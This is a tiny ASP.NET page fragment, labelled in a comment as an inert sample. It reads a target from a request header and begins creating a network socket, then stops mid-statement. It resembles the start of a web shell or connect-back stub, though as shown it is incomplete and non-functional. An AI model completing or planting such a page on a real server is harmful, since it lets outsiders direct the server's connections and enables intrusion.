<%@ Page Language="C#" %>
<% /* inert sample: no code */ string target = Request.Headers.Get("X-SAMPLE"); new Socket( %>
